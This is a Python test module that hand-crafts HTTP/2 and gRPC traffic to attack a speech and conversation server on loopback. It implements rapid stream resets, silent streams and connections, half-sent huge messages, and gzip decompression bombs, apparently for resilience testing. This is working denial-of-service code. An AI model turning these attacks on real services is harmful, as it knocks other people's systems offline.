"""Hostile clients, by hand: HTTP/2 as no library would send it. For a server on loopback only.

``python -m tests.attacks HOST:PORT ATTACK SECONDS`` runs one of :data:`ATTACKS` for so long, in a process of its own so
that it takes no time from callers that are measured. It prints ``attacking`` when everything is in place, and at the
end one JSON object that tells what it did.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import resource
import socket
import struct
import sys
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

CONVERSE = "/vivavoce.v1.ConversationService/Converse"
ASK = "/vivavoce.v1.ConversationService/Ask"
RECOGNIZE = "/nvidia.riva.asr.RivaSpeechRecognition/Recognize"
STREAMING_RECOGNIZE = "/nvidia.riva.asr.RivaSpeechRecognition/StreamingRecognize"

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS = 1
_DATA, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 3, 4, 6, 8
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4
_CANCEL = 8
_DEFAULT_WINDOW = 65_535
_MAX_FRAME = 16_384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns one HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def message_prefix(length: int, *, compressed: bool = False) -> bytes:
    """Returns the five bytes before a gRPC message, which claim that it has ``length`` bytes."""
    return struct.pack(">BI", compressed, length)


def _literal(text: str) -> bytes:
    data = text.encode()
    assert len(data) < 127
    return bytes([len(data)]) + data


def request_headers(method: str, **more: str) -> bytes:
    """Returns the headers of a call, each as a literal that no table keeps (RFC 7541, 6.2.2)."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": method,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
        **{name.replace("_", "-"): value for name, value in more.items()},
    }
    return b"".join(b"\x00" + _literal(name) + _literal(value) for name, value in headers.items())


@dataclass
class Attacker:
    """One TCP connection that speaks HTTP/2, and answers what a server insists on."""

    connection: socket.socket
    window: int = _DEFAULT_WINDOW
    initial_window: int = _DEFAULT_WINDOW
    windows: dict[int, int] = field(default_factory=dict)
    closed: bool = False
    _received: bytes = b""
    _next_stream: int = 1

    @classmethod
    def connected(cls, address: str, timeout_seconds: float = 5.0) -> Attacker:
        """Connects to ``HOST:PORT`` and opens HTTP/2."""
        attacker = cls(silent_connection(address, timeout_seconds))
        attacker.connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
        return attacker

    def close(self) -> None:
        """Goes without a word."""
        self.connection.close()

    def open_call(self, method: str, *, ends: bool = False, **headers: str) -> int:
        """Opens a stream; returns its number."""
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        flags = _END_HEADERS | (_END_STREAM if ends else 0)
        self.connection.sendall(frame(HEADERS, flags, stream, request_headers(method, **headers)))
        self.windows[stream] = self.initial_window
        return stream

    def open_and_reset(self, method: str, count: int) -> None:
        """Opens streams and cancels each in the same breath."""
        headers = request_headers(method)
        burst = b""
        for _ in range(count):
            stream, self._next_stream = self._next_stream, self._next_stream + 2
            burst += frame(HEADERS, _END_HEADERS, stream, headers)
            burst += frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
        self.connection.sendall(burst)

    def send(self, stream: int, data: bytes, *, ends: bool = False, patience_seconds: float = 2.0) -> int:
        """Sends as much of ``data`` as the server makes room for; returns how much that was."""
        sent = 0
        deadline = time.monotonic() + patience_seconds
        while sent < len(data) and not self.closed:
            self.read(0.0)
            room = min(self.window, self.windows[stream], _MAX_FRAME, len(data) - sent)
            if room <= 0:
                if time.monotonic() > deadline:
                    break
                self.read(0.05)
                continue
            last = ends and sent + room == len(data)
            try:
                self.connection.sendall(frame(_DATA, _END_STREAM if last else 0, stream, data[sent : sent + room]))
            except OSError:
                self.closed = True
                break
            sent += room
            self.window -= room
            self.windows[stream] -= room
            deadline = time.monotonic() + patience_seconds
        return sent

    def read(self, seconds: float) -> list[tuple[int, int, int, bytes]]:
        """Reads what comes within ``seconds``, acknowledges settings and pings, and returns the frames."""
        frames: list[tuple[int, int, int, bytes]] = []
        deadline = time.monotonic() + seconds
        while not self.closed:
            self.connection.settimeout(max(0.0, deadline - time.monotonic()))
            try:
                data = self.connection.recv(1 << 16)
            except (TimeoutError, BlockingIOError):
                break
            except OSError:
                data = b""
            if not data:
                self.closed = True
                break
            self._received += data
            frames += self._take_in()
            if time.monotonic() >= deadline:
                break
        if not self.closed:
            self.connection.settimeout(5.0)
        return frames

    def _take_in(self) -> Iterator[tuple[int, int, int, bytes]]:
        while len(self._received) >= 9:
            length = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + length:
                return
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            payload, self._received = self._received[9 : 9 + length], self._received[9 + length :]
            self._answer(kind, flags, stream, payload)
            yield kind, flags, stream, payload

    def _answer(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        with contextlib.suppress(OSError):
            if kind == _SETTINGS and not flags & _ACK:
                self._take_settings(payload)
                self.connection.sendall(frame(_SETTINGS, _ACK, 0))
            elif kind == _PING and not flags & _ACK:
                self.connection.sendall(frame(_PING, _ACK, 0, payload))
        if kind == _WINDOW_UPDATE:
            increment = int.from_bytes(payload, "big")
            if stream:
                self.windows[stream] = self.windows.get(stream, 0) + increment
            else:
                self.window += increment

    def _take_settings(self, payload: bytes) -> None:
        for at in range(0, len(payload), 6):
            name, value = struct.unpack(">HI", payload[at : at + 6])
            if name == 4:
                change, self.initial_window = value - self.initial_window, value
                for stream in self.windows:
                    self.windows[stream] += change


def silent_connection(address: str, timeout_seconds: float = 5.0) -> socket.socket:
    """Opens a TCP connection to ``HOST:PORT``, over which nothing is said."""
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host.strip("[]"), int(port)), timeout_seconds)


def silent_streams(address: str, seconds: float, count: int = 80) -> dict[str, int]:
    """Opens streams of both APIs on which nothing is ever sent."""
    attackers = [Attacker.connected(address) for _ in range(4)]
    for number in range(count):
        attackers[number % 4].open_call((CONVERSE, STREAMING_RECOGNIZE)[number % 2])
    _begun()
    _hold(attackers, seconds)
    return {"streams": count}


def rapid_resets(address: str, seconds: float, per_second: int = 2_000, connections: int = 4) -> dict[str, int]:
    """Opens streams and cancels each at once, so many a second."""
    attackers = [Attacker.connected(address) for _ in range(connections)]
    _begun()
    began, sent, refused = time.monotonic(), 0, 0
    while (passed := time.monotonic() - began) < seconds:
        while sent < passed * per_second:
            number = (sent // 20) % connections
            try:
                attackers[number].open_and_reset(CONVERSE, 20)
                attackers[number].read(0.0)
            except OSError:
                attackers[number].closed = True
            if attackers[number].closed:
                refused += 1
                attackers[number].close()
                attackers[number] = Attacker.connected(address)
            sent += 20
        time.sleep(0.002)
    return {"resets": sent, "connections_closed": refused}


def silent_connections(address: str, seconds: float, count: int = 1_500) -> dict[str, int]:
    """Opens TCP connections over which nothing is said."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            opened.append(silent_connection(address, 1.0))
    _begun()
    time.sleep(seconds)
    for connection in opened:
        connection.close()
    return {"connections": len(opened), "files": soft}


def half_messages(address: str, seconds: float, count: int = 8, length: int = 300_000_000) -> dict[str, int]:
    """Sends the greater part of a long message, again and again as far as the server lets it, and never the rest."""
    sent = 0
    attackers = [Attacker.connected(address) for _ in range(count)]
    _begun()
    until = time.monotonic() + seconds
    for attacker in attackers:
        for claimed in (length, 8_000_000):
            stream = attacker.open_call(RECOGNIZE)
            part = message_prefix(claimed) + bytes(claimed * 4 // 5)
            sent += attacker.send(stream, part, patience_seconds=0.2)
    _hold(attackers, until - time.monotonic())
    return {"bytes": sent}


def gzip_bombs(address: str, seconds: float, size: int = 300_000_000) -> dict[str, int]:
    """Sends a few hundred kilobytes that unpack to as many megabytes, over and over."""
    bomb = gzip.compress(bytes(size))
    message = message_prefix(len(bomb), compressed=True) + bomb
    _begun()
    began, sent = time.monotonic(), 0
    while time.monotonic() - began < seconds:
        attacker = Attacker.connected(address)
        stream = attacker.open_call(ASK, grpc_encoding="gzip")
        attacker.send(stream, message, ends=True, patience_seconds=0.2)
        attacker.read(0.1)
        attacker.close()
        sent += 1
    return {"bombs": sent, "bytes": len(bomb)}


ATTACKS: dict[str, Callable[[str, float], dict[str, int]]] = {
    "silent-streams": silent_streams,
    "rapid-resets": rapid_resets,
    "silent-connections": silent_connections,
    "half-messages": half_messages,
    "gzip-bombs": gzip_bombs,
}


def _begun() -> None:
    _say("attacking")


def _say(line: str) -> None:
    sys.stdout.write(f"{line}\n")
    sys.stdout.flush()


def _hold(attackers: list[Attacker], seconds: float) -> None:
    """Keeps connections alive, and says nothing more over them."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for attacker in attackers:
            attacker.read(0.01)
    for attacker in attackers:
        attacker.close()


if __name__ == "__main__":
    _address, _attack, _seconds = sys.argv[1:]
    _say(json.dumps(ATTACKS[_attack](_address, float(_seconds))))
